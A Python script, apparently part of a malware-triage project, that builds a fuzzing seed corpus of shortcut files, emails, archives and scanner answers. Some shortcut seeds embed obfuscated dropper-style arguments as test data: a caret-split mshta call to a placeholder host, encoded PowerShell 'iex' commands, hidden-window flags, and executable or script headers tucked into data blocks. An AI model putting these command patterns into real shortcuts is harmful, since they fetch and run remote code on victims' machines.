# SPDX-License-Identifier: GPL-2.0-or-later
"""make-corpus.py FOLDER: the shortcuts, mails, archives and answers that fuzzing starts from: one of each structure, each small.

What a fuzzer found is put beside them by hand, under a name that says what it was.
"""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../share"))
import make_container as c  # noqa: E402
import make_lnk as m  # noqa: E402

CMD = r"C:\Windows\System32\cmd.exe"
CORPUS = {
    "bare": m.link(),
    "windows-like": m.windows_like(name="n", arguments="-a", icon="i.ico"),
    "ansi": m.link(m.items_of(CMD), unicode=False, name="n", relative="r", directory="d", arguments="a", icon="i"),
    "environment": m.link(blocks=[m.environment("%windir%\\a.exe")], flags=m.EXP_STRING, arguments="-enc aQBlAHgAIABhAGIAYwA="),
    "icon-environment": m.link(blocks=[m.icon_environment("%x%\\a.pdf")], flags=m.EXP_ICON),
    "blocks": m.link(blocks=[m.console(), m.tracker(), m.code_page(), m.special_folder(3), m.known_folder(), m.shim("L"),
                             m.properties(2), m.vista_items(m.root(), m.volume(), m.entry("v.exe"))]),
    "info-unicode": m.link(link_info=m.info(CMD, "s", unicode=True)),
    "info-share": m.link(link_info=m.info_share("\\\\h\\s", "a.exe")),
    "info-share-unicode": m.link(link_info=m.info_share("\\\\h@SSL\\s", "a.exe", unicode=True)),
    "items": m.link(m.items(m.root(), m.root(m.CONTROL_PANEL), m.applet("\\\\h\\a.dll"), m.network("\\\\h\\s"),
                            m.uri("http://h/a"), m.entry("Long name.exe", short="LONGNA~1.EXE"))),
    "two-ways": m.link(name="x" * 262, arguments="b"),
    "command": m.link(link_info=m.info(CMD), arguments="/c" + " " * 9 + "m^s^h^ta http://h/ & del a.lnk -w hidden iex", icon="a.pdf"),
    "padded-to-its-end": m.link(arguments=" " * 9 + "x"),  # what follows the blanks was shown past its end
    "share": m.link(link_info=m.info("C:\\POWERS~1.EXE"), arguments="-w h \\\\h@SSL\\a file://h/a.exe 'ht'+'tp://h' C:\\\\a //no"),
    "payload": m.link(blocks=[m.block(0xA0000009, b"\x40\0\0\0MZ" + b"\0" * 0x3a + m.TERMINAL), m.block(0xA00000FF, b"MZ\x90\0<script")]),
    "installer": m.link(blocks=[m.darwin("a>b")], flags=1 << 12),
    "overlay": m.link(overlay=b"MZ\0\0"),
}

TINY = {"a.lnk": m.link(arguments="-a"), "b.txt": b"text"}
ANSWER = (b'{"file":{"name":"a","size":1,"sha256":null},"kind":"zip","verdict":"clean","indicators":[{"id":"a","severity":"low",'
          b'"detail":"x"}],"yara":{"rules":1,"complete":true},"members":[{"member":"1","file":{"name":"b/c","size":0,"sha256":null},'
          b'"kind":"link","verdict":"clean","indicators":[]}]}')
OTHERS = {
    "mail": {
        "plain.eml": c.mail(TINY).as_bytes(),
        "quoted.eml": c.mail(TINY, cte="quoted-printable").as_bytes(),
        "nested.eml": c.mail({"": c.mail({"a.txt": b"x"})}).as_bytes(),
        "names.eml": b"From: a@b\r\nTo: c@d\r\nContent-Type: a/b; name*0*=utf-8''%C3; name*1*=%BC\r\nContent-Disposition: x; "
                     b"filename=\"=?utf-8?Q?=FC?= =?x?B?QUI=?=\"\r\nContent-Transfer-Encoding: base64\r\n\r\nQUJD",
        "outlook.msg": c.outlook({"a.txt": b"x"}),
        "overlay.lnk": m.link(overlay=b"<script>MZ%PDF-%%EOFPK\3\4"),
        "tricks.lnk": m.link(arguments="set a=x&&%a:~0,1%^b'c'+'d'[char]65 -enc QQBCAEMARABFAEYARwBIAEkASgA="),
    },
    "archive": {
        "zip.zip": c.zipped(TINY), "tar.tar": c.tarred({"a": b"x", "l": "/etc"}), "gzip.gz": c.tarred({"a": b"x"}, "w:gz"),
        "rar.rar": c.rar(TINY), "7z.7z": c.by_bsdtar({"a": b"x"}, "--format=7zip"),
        "encrypted.zip": c.by_bsdtar({"a": b"x"}, "--format=zip", "--options", "zip:encryption=traditional", "--passphrase", "x"),
    },
    "answer": {"triage.json": ANSWER, "ok": b"fd[10]: OK", "found": b"fd[10]: Some.Name FOUND"},
}


def write(folder, name, data):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as out:
        out.write(data)


if __name__ == "__main__":
    for name, data in CORPUS.items():
        write(os.path.join(sys.argv[1], "lnk"), name + ".lnk", data)
    for kind, files in OTHERS.items():
        for name, data in files.items():
            write(os.path.join(sys.argv[1], kind), name, data)
